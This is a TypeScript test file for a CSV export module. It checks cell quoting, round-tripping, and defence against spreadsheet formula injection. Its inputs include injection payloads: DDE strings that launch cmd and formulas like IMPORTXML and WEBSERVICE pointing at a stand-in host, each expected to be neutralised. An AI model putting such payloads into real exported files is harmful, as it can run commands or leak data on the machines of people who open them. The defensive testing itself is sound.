import { expect, test } from 'vitest'
import { csvDelimiters } from './csv-delimiters.ts'
import { csvLinesOf, fromCell, toCell } from './csv-text.ts'

test.each([
  ['Budi', 'Budi'],
  ['Budi, Sari', '"Budi, Sari"'],
  ['kata "kunci"', '"kata ""kunci"""'],
  ['dua\nbaris', '"dua\nbaris"'],
  [1250000, '1250000'],
  [-5, '-5'],
  ['-5.25', '-5.25'],
  ['+62', '+62'],
  [null, ''],
  [true, 'true'],
])('%j is the cell %j', (value, cell) => {
  expect(toCell(value)).toBe(cell)
})

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\0=1',
  '=HYPERLINK("http://jahat.test","klik")',
  '+62 812',
  '-',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!D2",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("https://jahat.test","//a")',
  '=WEBSERVICE("https://jahat.test")',
])('%j is never run as a formula', (text) => {
  expect(toCell(text).replace(/^"/, '').startsWith("'")).toBe(true)
})

test.each([
  ["Ratna;=HYPERLINK('http://jahat.test');x", "Ratna;'=HYPERLINK('http://jahat.test');x"],
  ['a; @SUM(A1);-1+1', "a; '@SUM(A1);'-1+1"],
  ['dua\n=1+1', '"dua\n\'=1+1"'],
  ['dua\t＝1+1', '"dua\t\'＝1+1"'],
])('%j starts no formula in the middle', (text, cell) => {
  expect(toCell(text)).toBe(cell)
})

test('lines have the requested delimiter, and start no formula in programs that read them with commas', () => {
  expect(csvLinesOf([['Kue; lapis', 'a|b', 'x,=1+1', 'dua, tiga']], ';')).toBe(
    '"Kue; lapis";a|b;"x,\'=1+1";"dua, tiga"\r\n',
  )
  expect(csvLinesOf([['a|b', 5]], '|')).toBe('"a|b"|5\r\n')
})

test.each(csvDelimiters)(
  'texts written with %j are read back the same, whatever signs and apostrophes they have',
  (delimiter) => {
    const signs = ["'", '=', '-', ';', '\n', '\t', ' ', 'a', '7', '＝', '"', ',', '|']
    // All texts of up to four of them.
    const texts = [...Array(4)].reduce<string[]>(
      (shorter) => ['', ...shorter.flatMap((one) => signs.map((sign) => one + sign))],
      [''],
    )
    const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
    const wrong = [...new Set(texts)].filter((text) => fromCell(unquoted(toCell(text, delimiter)), delimiter) !== text)
    expect(wrong).toEqual([])
  },
)
